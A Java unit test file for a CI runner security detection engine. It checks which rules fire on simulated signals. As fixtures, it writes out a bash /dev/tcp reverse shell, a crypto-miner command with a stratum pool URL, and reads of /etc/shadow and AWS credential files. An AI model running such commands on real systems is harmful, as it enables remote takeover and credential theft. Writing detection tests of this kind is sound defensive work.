package dev.runnerguard.policy.detection;

import static dev.runnerguard.policy.detection.Inputs.T0;
import static dev.runnerguard.policy.detection.Inputs.job;
import static dev.runnerguard.policy.detection.Inputs.lifecycle;
import static dev.runnerguard.policy.detection.Inputs.net;
import static dev.runnerguard.policy.detection.Inputs.process;
import static dev.runnerguard.policy.detection.Inputs.signal;
import static org.assertj.core.api.Assertions.assertThat;

import dev.runnerguard.policy.detection.rules.DetectionConfig;
import dev.runnerguard.policy.detection.rules.RuleCatalog;
import dev.runnerguard.policy.load.PolicyFile;
import dev.runnerguard.policy.load.PolicyLoader;
import dev.runnerguard.schemas.avro.RunnerLifecycleEvent;
import dev.runnerguard.schemas.avro.RunnerState;
import dev.runnerguard.schemas.avro.SecuritySignal;
import dev.runnerguard.schemas.avro.SignalSource;
import dev.runnerguard.schemas.avro.WorkflowJobEvent;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Every detection rule, table-driven: inputs in order, the rules that must fire (or none). */
class DetectionEngineTest {
  static final String R = "rg-100-1";
  static final List<String> PLATFORM = List.of("self-hosted", "linux");

  sealed interface Step permits Sig, Job, Life, Tick {}

  record Sig(SecuritySignal s, long now) implements Step {}

  record Job(WorkflowJobEvent e, long now) implements Step {}

  record Life(RunnerLifecycleEvent e, long now) implements Step {}

  record Tick(long now) implements Step {}

  record Case(String name, String rules, List<Step> steps, List<String> fire, boolean command) {
    @Override
    public String toString() {
      return name;
    }
  }

  static Sig sig(SecuritySignal.Builder b) {
    return new Sig(b.build(), T0 + 1000);
  }

  static SecuritySignal.Builder falco(String id, String rule, String kind) {
    return signal(id, kind, R, 0).setSource(SignalSource.FALCO).setRule(rule);
  }

  static Case fires(String name, String rules, boolean command, List<Step> steps, String... fire) {
    return new Case(name, rules, steps, List.of(fire), command);
  }

  static Case quiet(String name, String rules, List<Step> steps) {
    return new Case(name, rules, steps, List.of(), false);
  }

  static Stream<Case> cases() {
    long s = 1000;
    return Stream.of(
        // unknown-runner-online
        fires(
            "unknown runner: in_progress, no lifecycle within grace",
            "",
            false,
            List.of(new Job(job(100, "in_progress", R, PLATFORM), T0), new Tick(T0 + 31 * s)),
            RuleCatalog.UNKNOWN_RUNNER),
        quiet(
            "unknown runner: lifecycle arrives within grace",
            "",
            List.of(
                new Job(job(100, "in_progress", R, PLATFORM), T0),
                new Life(lifecycle(R, RunnerState.BUSY, 0, Map.of()), T0 + 5 * s),
                new Tick(T0 + 60 * s))),
        quiet(
            "unknown runner: grace not over yet",
            "",
            List.of(new Job(job(100, "in_progress", R, PLATFORM), T0), new Tick(T0 + 29 * s))),
        fires(
            "unknown runner: GitHub audit registration, no lifecycle",
            "",
            false,
            List.of(
                new Sig(
                    signal("a1", "runner.registered", R, 0)
                        .setSource(SignalSource.GITHUB_AUDIT)
                        .build(),
                    T0),
                new Tick(T0 + 31 * s)),
            RuleCatalog.UNKNOWN_RUNNER),
        // ephemeral-runner-reused
        fires(
            "reused: second in_progress with another job",
            "",
            true,
            List.of(
                new Life(lifecycle(R, RunnerState.BUSY, 0, Map.of()), T0),
                new Job(job(100, "in_progress", R, PLATFORM), T0),
                new Job(job(200, "in_progress", R, PLATFORM), T0 + s)),
            RuleCatalog.RUNNER_REUSED),
        quiet(
            "reused: the same job's in_progress twice",
            "",
            List.of(
                new Life(lifecycle(R, RunnerState.BUSY, 0, Map.of()), T0),
                new Job(job(100, "in_progress", R, PLATFORM), T0),
                new Job(job(100, "in_progress", R, PLATFORM), T0 + s))),
        // foreign-runner-platform-labels
        fires(
            "foreign runner with platform labels",
            "",
            false,
            List.of(new Job(job(100, "in_progress", "build-box-7", PLATFORM), T0)),
            RuleCatalog.FOREIGN_RUNNER),
        quiet(
            "foreign runner without platform labels (GitHub-hosted)",
            "",
            List.of(
                new Job(
                    job(100, "in_progress", "GitHub Actions 12", List.of("ubuntu-latest")), T0))),
        // nested-runner-agent
        fires(
            "nested runner: host sensor",
            "",
            true,
            List.of(
                sig(
                    signal("n1", "process.nested-runner", R, 0)
                        .setProcess(
                            process("/tmp/x/bin/Runner.Listener", "./bin/Runner.Listener run")))),
            RuleCatalog.NESTED_RUNNER),
        fires(
            "nested runner: config.sh --url on a process.exec",
            "",
            true,
            List.of(
                sig(
                    signal("n2", "process.exec", R, 0)
                        .setProcess(
                            process(
                                "/bin/bash",
                                "./config.sh --url https://github.com/evil --token AAAAAAAAA")))),
            RuleCatalog.NESTED_RUNNER),
        quiet(
            "nested runner: ordinary process",
            "",
            List.of(
                sig(
                    signal("n3", "process.exec", R, 0)
                        .setProcess(process("/usr/bin/make", "make -j4"))))),
        // process-survived-job
        fires(
            "survived process",
            "",
            true,
            List.of(
                sig(
                    signal("p1", "process.survived", R, 0)
                        .setProcess(process("/usr/bin/sleep", "sleep 9999")))),
            RuleCatalog.PROCESS_SURVIVED),
        quiet(
            "survived: disabled by policy",
            "    - {id: process-survived-job, enabled: false}\n",
            List.of(sig(signal("p2", "process.survived", R, 0)))),
        // runner-memory-read
        fires(
            "memory read of /proc/<pid>/mem",
            "",
            true,
            List.of(sig(signal("m1", "file.read", R, 0).setFilePath("/proc/1234/mem"))),
            RuleCatalog.MEMORY_READ),
        fires(
            "memory read: Falco ptrace rule",
            "",
            true,
            List.of(sig(falco("m2", "PTRACE attached to process", "process.ptrace"))),
            RuleCatalog.MEMORY_READ),
        quiet(
            "memory read: /proc/self/status",
            "",
            List.of(sig(signal("m3", "file.read", R, 0).setFilePath("/proc/1234/status")))),
        // egress-outside-allowlist (stateful window)
        fires(
            "egress: 3 denials in 60 s with threshold 3",
            "    - {id: egress-outside-allowlist, threshold: 3, windowSeconds: 60}\n",
            true,
            List.of(
                sig(
                    signal("e1", "net.egress.denied", R, 0)
                        .setNetwork(net(null, "203.0.113.9", 443))),
                sig(
                    signal("e2", "net.egress.denied", R, 10 * s)
                        .setNetwork(net(null, "203.0.113.9", 443))),
                sig(
                    signal("e3", "net.egress.denied", R, 20 * s)
                        .setNetwork(net(null, "203.0.113.10", 80)))),
            RuleCatalog.EGRESS_DENIED),
        quiet(
            "egress: 3 denials spread over 3 minutes",
            "    - {id: egress-outside-allowlist, threshold: 3, windowSeconds: 60}\n",
            List.of(
                sig(
                    signal("e1", "net.egress.denied", R, 0)
                        .setNetwork(net(null, "203.0.113.9", 443))),
                sig(
                    signal("e2", "net.egress.denied", R, 90 * s)
                        .setNetwork(net(null, "203.0.113.9", 443))),
                sig(
                    signal("e3", "net.egress.denied", R, 180 * s)
                        .setNetwork(net(null, "203.0.113.9", 443))))),
        quiet(
            "egress: the same denial delivered three times counts once",
            "    - {id: egress-outside-allowlist, threshold: 2, windowSeconds: 60}\n",
            List.of(
                sig(
                    signal("e1", "net.egress.denied", R, 0)
                        .setNetwork(net(null, "203.0.113.9", 443))),
                sig(
                    signal("e1", "net.egress.denied", R, 0)
                        .setNetwork(net(null, "203.0.113.9", 443))),
                sig(
                    signal("e1", "net.egress.denied", R, 0)
                        .setNetwork(net(null, "203.0.113.9", 443))))),
        quiet(
            "egress: denial to an allowed port",
            "    - {id: egress-outside-allowlist, allowedPorts: [123]}\n",
            List.of(
                sig(
                    signal("e4", "net.egress.denied", R, 0)
                        .setNetwork(net(null, "203.0.113.9", 123))))),
        fires(
            "egress: audit mode gives a finding, no command",
            "    - {id: egress-outside-allowlist, audit: true}\n",
            false,
            List.of(
                sig(
                    signal("e5", "net.egress.denied", R, 0)
                        .setNetwork(net(null, "203.0.113.9", 443)))),
            RuleCatalog.EGRESS_DENIED),
        // egress-ioc
        fires(
            "ioc: host below a listed domain",
            "    - {id: egress-ioc, iocs: ['*.evil.example', '198.51.100.0/24']}\n",
            true,
            List.of(
                sig(
                    signal("i1", "net.connect", R, 0)
                        .setSource(SignalSource.DNS)
                        .setNetwork(net("c2.evil.example", null, 443)))),
            RuleCatalog.EGRESS_IOC),
        fires(
            "ioc: address in a listed CIDR",
            "    - {id: egress-ioc, iocs: ['*.evil.example', '198.51.100.0/24']}\n",
            true,
            List.of(
                sig(
                    signal("i2", "net.connect", R, 0)
                        .setNetwork(net(null, "198.51.100.77", 8080)))),
            RuleCatalog.EGRESS_IOC),
        quiet(
            "ioc: unlisted destination",
            "    - {id: egress-ioc, iocs: ['*.evil.example', '198.51.100.0/24']}\n",
            List.of(
                sig(
                    signal("i3", "net.connect", R, 0)
                        .setNetwork(net("api.github.com", "140.82.112.6", 443))))),
        // reverse-shell
        fires(
            "reverse shell: Falco rule",
            "",
            true,
            List.of(
                sig(
                    falco(
                        "r1",
                        "Redirect STDOUT/STDIN to Network Connection in Container",
                        "net.connect"))),
            RuleCatalog.REVERSE_SHELL),
        fires(
            "reverse shell: bash /dev/tcp",
            "",
            true,
            List.of(
                sig(
                    signal("r2", "process.exec", R, 0)
                        .setProcess(
                            process("/bin/bash", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")))),
            RuleCatalog.REVERSE_SHELL),
        quiet(
            "reverse shell: other Falco rule",
            "",
            List.of(sig(falco("r3", "Terminal shell in container", "process.exec")))),
        // crypto-miner
        fires(
            "crypto: sustained cpu burn",
            "",
            true,
            List.of(
                sig(
                    signal("c1", "process.cpu-burn", R, 0)
                        .setAttributes(Map.of("cpuPercent", "198.5", "windowSeconds", "120")))),
            RuleCatalog.CRYPTO_MINER),
        fires(
            "crypto: stratum URL",
            "",
            true,
            List.of(
                sig(
                    signal("c2", "process.exec", R, 0)
                        .setProcess(
                            process(
                                "/tmp/.x/kworker",
                                "/tmp/.x/kworker -o stratum+tcp://pool.example:3333")))),
            RuleCatalog.CRYPTO_MINER),
        fires(
            "crypto: xmrig binary",
            "",
            true,
            List.of(
                sig(
                    signal("c3", "process.exec", R, 0)
                        .setProcess(process("/tmp/xmrig", "/tmp/xmrig")))),
            RuleCatalog.CRYPTO_MINER),
        quiet(
            "crypto: short cpu burn",
            "",
            List.of(
                sig(
                    signal("c4", "process.cpu-burn", R, 0)
                        .setAttributes(Map.of("cpuPercent", "180", "windowSeconds", "2"))))),
        quiet(
            "crypto: busy compiler under the threshold",
            "    - {id: crypto-miner, cpuPercent: 250}\n",
            List.of(
                sig(
                    signal("c5", "process.cpu-burn", R, 0)
                        .setAttributes(Map.of("cpuPercent", "199", "windowSeconds", "600"))))),
        // credential-harvesting
        fires(
            "credentials: /etc/shadow read (alert)",
            "",
            false,
            List.of(sig(signal("k1", "file.read", R, 0).setFilePath("/etc/shadow"))),
            RuleCatalog.CREDENTIAL_READ),
        fires(
            "credentials: ~/.aws/credentials",
            "",
            false,
            List.of(
                sig(signal("k2", "file.read", R, 0).setFilePath("/home/runner/.aws/credentials"))),
            RuleCatalog.CREDENTIAL_READ),
        quiet(
            "credentials: ordinary file",
            "",
            List.of(
                sig(
                    signal("k3", "file.read", R, 0)
                        .setFilePath("/home/runner/work/app/README.md")))),
        // cloud-metadata-access
        fires(
            "metadata: 169.254.169.254",
            "",
            true,
            List.of(
                sig(
                    signal("md1", "net.connect", R, 0)
                        .setNetwork(net(null, "169.254.169.254", 80)))),
            RuleCatalog.CLOUD_METADATA),
        quiet(
            "metadata: other link-local",
            "",
            List.of(
                sig(signal("md2", "net.connect", R, 0).setNetwork(net(null, "169.254.1.1", 80))))),
        // workflow-backdoor
        fires(
            "backdoor: workflow file written",
            "",
            false,
            List.of(
                sig(
                    signal("w1", "file.write", R, 0)
                        .setFilePath("/home/runner/work/app/app/.github/workflows/ci.yml"))),
            RuleCatalog.WORKFLOW_BACKDOOR),
        quiet(
            "backdoor: workflow file only read",
            "",
            List.of(
                sig(
                    signal("w2", "file.read", R, 0)
                        .setFilePath("/home/runner/work/app/app/.github/workflows/ci.yml")))),
        // privilege-escape
        fires(
            "escape: docker.sock",
            "",
            true,
            List.of(sig(signal("x1", "net.connect", R, 0).setFilePath("/var/run/docker.sock"))),
            RuleCatalog.PRIVILEGE_ESCAPE),
        fires(
            "escape: sudo",
            "",
            true,
            List.of(
                sig(
                    signal("x2", "process.exec", R, 0)
                        .setProcess(process("/usr/bin/sudo", "sudo -i")))),
            RuleCatalog.PRIVILEGE_ESCAPE),
        quiet(
            "escape: sudo allowed by policy",
            "    - {id: privilege-escape, binaries: []}\n",
            List.of(
                sig(
                    signal("x3", "process.exec", R, 0)
                        .setProcess(process("/usr/bin/sudo", "sudo apt-get install jq"))))),
        // host-persistence
        fires(
            "persistence: authorized_keys written",
            "",
            false,
            List.of(
                sig(
                    signal("h1", "file.write", R, 0)
                        .setFilePath("/home/runner/.ssh/authorized_keys"))),
            RuleCatalog.HOST_PERSISTENCE),
        fires(
            "persistence: cron",
            "",
            false,
            List.of(sig(signal("h2", "file.write", R, 0).setFilePath("/etc/cron.d/backdoor"))),
            RuleCatalog.HOST_PERSISTENCE),
        quiet(
            "persistence: workspace file",
            "",
            List.of(
                sig(
                    signal("h3", "file.write", R, 0)
                        .setFilePath("/home/runner/work/app/out.txt")))),
        // runner-group-weakened
        fires(
            "group weakened",
            "",
            false,
            List.of(
                sig(
                    signal("g1", "runner_group.update", null, 0)
                        .setSource(SignalSource.GITHUB_AUDIT)
                        .setAttributes(
                            Map.of("allowsPublicRepositories", "true", "runnerGroup", "private")))),
            RuleCatalog.GROUP_WEAKENED),
        quiet(
            "group update that keeps public repositories out",
            "",
            List.of(
                sig(
                    signal("g2", "runner_group.update", null, 0)
                        .setSource(SignalSource.GITHUB_AUDIT)
                        .setAttributes(Map.of("allowsPublicRepositories", "false"))))),
        // job-max-duration-exceeded
        fires(
            "max duration: orchestrator signal",
            "",
            true,
            List.of(
                sig(
                    signal("d1", "job.max-duration-exceeded", R, 0)
                        .setSource(SignalSource.ORCHESTRATOR))),
            RuleCatalog.MAX_DURATION),
        fires(
            "max duration: busy beyond the lifecycle's limit",
            "",
            true,
            List.of(
                new Life(
                    lifecycle(R, RunnerState.BUSY, 0, Map.of("maxDurationSeconds", "600")), T0),
                new Tick(T0 + 661 * s)),
            RuleCatalog.MAX_DURATION),
        quiet(
            "max duration: completed in time",
            "",
            List.of(
                new Life(
                    lifecycle(R, RunnerState.BUSY, 0, Map.of("maxDurationSeconds", "600")), T0),
                new Life(lifecycle(R, RunnerState.COMPLETED, 300 * s, Map.of()), T0 + 300 * s),
                new Tick(T0 + 700 * s))),
        // telemetry-gap
        fires(
            "telemetry gap",
            "",
            false,
            List.of(sig(signal("t1", "telemetry.gap", null, 0).setSource(SignalSource.PLATFORM))),
            RuleCatalog.TELEMETRY_GAP),
        fires(
            "telemetry gap: Falco drops",
            "",
            false,
            List.of(
                sig(
                    falco("t2", "Falco internal: syscall event drop", "process.exec")
                        .setRunnerId(null))),
            RuleCatalog.TELEMETRY_GAP),
        quiet(
            "telemetry gap: disabled",
            "    - {id: telemetry-gap, enabled: false}\n",
            List.of(sig(signal("t3", "telemetry.gap", null, 0).setSource(SignalSource.PLATFORM)))),
        // activity-after-completed
        fires(
            "activity after completed",
            "",
            true,
            List.of(
                new Life(lifecycle(R, RunnerState.COMPLETED, 0, Map.of()), T0),
                sig(
                    signal("a1", "net.connect", R, 30 * s)
                        .setNetwork(net(null, "140.82.112.6", 443)))),
            RuleCatalog.AFTER_COMPLETED),
        quiet(
            "activity within the grace after completed",
            "",
            List.of(
                new Life(lifecycle(R, RunnerState.COMPLETED, 0, Map.of()), T0),
                sig(
                    signal("a2", "net.connect", R, 5 * s)
                        .setNetwork(net(null, "140.82.112.6", 443))))),
        // one quarantine command per runner
        fires(
            "two rules on one runner: two findings, one command",
            "",
            true,
            List.of(
                sig(signal("z1", "process.survived", R, 0)),
                sig(signal("z2", "process.nested-runner", R, 0))),
            RuleCatalog.PROCESS_SURVIVED,
            RuleCatalog.NESTED_RUNNER));
  }

  static DetectionConfig config(String rules) throws Exception {
    String yaml =
        "apiVersion: runnerguard.dev/v1\nkind: DetectionPolicy\ndetection:\n  platformLabels: [self-hosted]\n"
            + (rules.isEmpty() ? "" : "  rules:\n" + rules);
    return PolicyLoader.load("t", List.of(PolicyFile.of("detection.yaml", yaml))).detection();
  }

  static List<Detection> run(DetectionEngine engine, DetectionConfig cfg, List<Step> steps) {
    List<Detection> all = new ArrayList<>();
    for (Step step : steps) {
      List<Detection> out;
      long now;
      if (step instanceof Sig x) {
        now = x.now();
        out = engine.onSignal(cfg, x.s(), now);
      } else if (step instanceof Job x) {
        now = x.now();
        out = engine.onWorkflowJob(cfg, x.e(), now);
      } else if (step instanceof Life x) {
        now = x.now();
        out = engine.onLifecycle(cfg, x.e(), now);
      } else {
        now = ((Tick) step).now();
        out = engine.tick(cfg, now, 86_400_000L);
      }
      for (Detection d : out) {
        engine.emitted(d, now);
      }
      all.addAll(out);
    }
    return all;
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void rule(Case c) throws Exception {
    DetectionEngine engine = new DetectionEngine(new DetectionState(), id -> false);
    List<Detection> out = run(engine, config(c.rules()), c.steps());
    assertThat(out).extracting(d -> d.rule().id()).containsExactlyInAnyOrderElementsOf(c.fire());
    assertThat(out.stream().filter(Detection::quarantine).count())
        .as("quarantine commands")
        .isEqualTo(c.command() ? 1 : 0);
    for (Detection d : out) {
      assertThat(d.findingId()).startsWith("fnd-").hasSize(28);
      assertThat(d.evidence()).isNotEmpty();
      assertThat(String.join(" ", d.evidence().values()) + d.summary()).doesNotContain("AAAAAAAAA");
      if (d.rule().audit()) {
        assertThat(d.quarantine()).isFalse();
      }
    }
  }

  @Test
  void everyCatalogueRuleHasAPositiveAndANegativeCase() {
    Set<String> positive = new HashSet<>();
    cases().forEach(c -> positive.addAll(c.fire()));
    assertThat(positive)
        .containsExactlyInAnyOrderElementsOf(
            RuleCatalog.all().stream().map(RuleCatalog.Def::id).collect(Collectors.toSet()));
    assertThat(cases().filter(c -> c.fire().isEmpty()).count())
        .isGreaterThanOrEqualTo(RuleCatalog.all().size());
  }

  @Test
  void sameInputTwiceGivesOneFindingAndTheSameIds() throws Exception {
    DetectionConfig cfg = config("");
    DetectionEngine engine = new DetectionEngine(new DetectionState(), id -> false);
    SecuritySignal s = signal("dup", "process.survived", R, 0).build();
    List<Detection> first = run(engine, cfg, List.of(new Sig(s, T0), new Sig(s, T0 + 1)));
    assertThat(first).hasSize(1);
    // a fresh engine (state lost) that knows the finding was emitted (findings topic read back)
    String id = first.get(0).findingId();
    DetectionEngine restarted = new DetectionEngine(new DetectionState(), id::equals);
    assertThat(run(restarted, cfg, List.of(new Sig(s, T0)))).isEmpty();
    // deterministic: a fresh engine without that knowledge computes the same ids
    List<Detection> again =
        run(new DetectionEngine(new DetectionState(), x -> false), cfg, List.of(new Sig(s, T0)));
    assertThat(again.get(0).findingId()).isEqualTo(id);
    assertThat(Ids.commandId(again.get(0).findingId())).isEqualTo(Ids.commandId(id));
  }

  @Test
  void stateSurvivesAJsonRoundTrip() throws Exception {
    DetectionConfig cfg = config("    - {id: egress-outside-allowlist, threshold: 2}\n");
    DetectionState state = new DetectionState();
    DetectionEngine engine = new DetectionEngine(state, id -> false);
    run(
        engine,
        cfg,
        List.of(
            sig(
                signal("e1", "net.egress.denied", R, 0)
                    .setNetwork(net(null, "203.0.113.1", 443)))));
    var mapper = new com.fasterxml.jackson.databind.ObjectMapper();
    byte[] json = mapper.writeValueAsBytes(state.get(R));
    DetectionState restored = new DetectionState();
    restored.restore(mapper.readValue(json, dev.runnerguard.policy.detection.RunnerState.class));
    DetectionEngine after = new DetectionEngine(restored, id -> false);
    List<Detection> out =
        run(
            after,
            cfg,
            List.of(
                sig(
                    signal("e2", "net.egress.denied", R, 1000)
                        .setNetwork(net(null, "203.0.113.1", 443)))));
    assertThat(out).extracting(d -> d.rule().id()).containsExactly(RuleCatalog.EGRESS_DENIED);
    assertThat(out.get(0).signalIds()).containsExactly("e1", "e2");
  }
}
